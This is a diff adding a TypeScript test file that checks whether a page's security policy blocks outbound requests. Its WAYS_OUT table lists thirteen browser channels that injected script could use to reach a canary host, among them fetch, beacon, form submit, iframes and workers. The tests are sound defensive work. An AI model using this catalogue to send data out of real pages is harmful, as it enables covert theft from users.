@@ -1,0 +1,146 @@
+import assert from 'node:assert/strict';
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, test } from 'node:test';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { pathToFileURL } from 'node:url';
+
+import { openStage } from '../../elements/stage.js';
+import type { Shared } from '../all-cases.js';
+import { CANARY } from '../fixtures/loopback.js';
+
+/**
+ * Ways out that a policy can close, tried by script that somebody got into the page. Each
+ * asks for a name of its own, so that whoever hears it knows which it was. What no policy
+ * in a page can close is in the README: navigation, prefetch of names, WebRTC.
+ */
+const WAYS_OUT: Record<string, (address: string) => unknown> = {
+  fetch: (address) => fetch(address, { mode: 'no-cors' }),
+  xhr: (address) => {
+    const request = new XMLHttpRequest();
+    request.open('GET', address);
+    request.send();
+  },
+  websocket: (address) => new WebSocket(address.replace('http', 'ws')),
+  events: (address) => new EventSource(address),
+  beacon: (address) => navigator.sendBeacon(address, 'x'),
+  image: (address) => {
+    new Image().src = address;
+  },
+  frame: (address) => {
+    const frame = document.createElement('iframe');
+    frame.src = address;
+    document.body.append(frame);
+  },
+  form: (address) => {
+    const form = document.createElement('form');
+    const frame = document.createElement('iframe');
+    frame.name = 'target-of-form';
+    document.body.append(form, frame);
+    form.action = address;
+    form.target = frame.name;
+    form.submit();
+  },
+  stylesheet: (address) => {
+    const link = document.createElement('link');
+    link.rel = 'stylesheet';
+    link.href = address;
+    document.head.append(link);
+  },
+  video: (address) => {
+    const video = document.createElement('video');
+    video.src = address;
+    document.body.append(video);
+    video.load();
+  },
+  object: (address) => {
+    const object = document.createElement('object');
+    object.setAttribute('data', address);
+    document.body.append(object);
+  },
+  script: (address) => {
+    const script = document.createElement('script');
+    script.setAttribute('src', address);
+    document.body.append(script);
+  },
+  worker: (address) => {
+    const source = `fetch(${JSON.stringify(address)}, { mode: 'no-cors' })`;
+    return new Worker(URL.createObjectURL(new Blob([source])));
+  },
+};
+
+/** Chromium asks for the name of what a frame shows before it asks the policy. */
+const LOOKED_UP_FIRST = [hostOf('frame', 'page'), hostOf('form', 'page')];
+
+/** Nothing gets out of the page. */
+export function enclosureCases({ browser, loopback, open, downloads }: Shared): void {
+  describe('what gets out', () => {
+    test('the ways out lead out of a page without a policy', async () => {
+      const path = join(downloads, 'open.html');
+      writeFileSync(path, '<!doctype html><title>open</title><body></body>');
+      const { page } = await openStage(browser());
+      await page.goto(pathToFileURL(path).href);
+      loopback().heard();
+      for (const [name, way] of Object.entries(WAYS_OUT)) {
+        await page.evaluate(way, addressOf(name, 'open')).catch(() => undefined);
+      }
+      await sleep(3_000);
+      const heard = loopback().heard().join('\n');
+      const silent = Object.keys(WAYS_OUT).filter(
+        (name) => !heard.includes(hostOf(name, 'open')),
+      );
+      assert.deepEqual(silent, []);
+      await page.close();
+    });
+
+    test('they are all closed in the page', async () => {
+      loopback().heard();
+      const desk = await open();
+      for (const [name, way] of Object.entries(WAYS_OUT)) {
+        await desk.page.evaluate(way, addressOf(name, 'page')).catch(() => undefined);
+      }
+      await sleep(3_000);
+      await desk.page.close();
+      const heard = loopback().heard();
+      const connected = heard.filter((sound) => !sound.startsWith('dns '));
+      assert.deepEqual(connected, []);
+      const names = heard.filter((sound) => sound.includes(CANARY.host));
+      assert.deepEqual(
+        names.filter((name) => !LOOKED_UP_FIRST.some((way) => name.includes(way))),
+        [],
+      );
+    });
+
+    test('codes are made, printed and checked without a sound', async () => {
+      loopback().heard();
+      const desk = await open();
+      const [code = ''] = await desk.makeFor('ada');
+      await desk.printed();
+      await desk.saveFile();
+      await desk.hands.fill('Code', code);
+      await desk.hands.press('Check');
+      await desk.untilShown('#outcome .notice');
+      await desk.page.close();
+      const heard = loopback().heard();
+      assert.deepEqual(
+        heard.filter((sound) => !isOfTheBrowser(sound)),
+        [],
+      );
+    });
+  });
+}
+
+function hostOf(name: string, where: string): string {
+  return `${name}.${where}.${CANARY.host}`;
+}
+
+function addressOf(name: string, where: string): string {
+  return `http://${hostOf(name, where)}:${CANARY.port}/`;
+}
+
+/** What a browser asks for by itself, whatever page it shows. */
+function isOfTheBrowser(sound: string): boolean {
+  return /^dns .*\.(google|googleapis|gstatic|mozilla|firefox)\.(com|org|net)$/.test(
+    sound,
+  );
+}
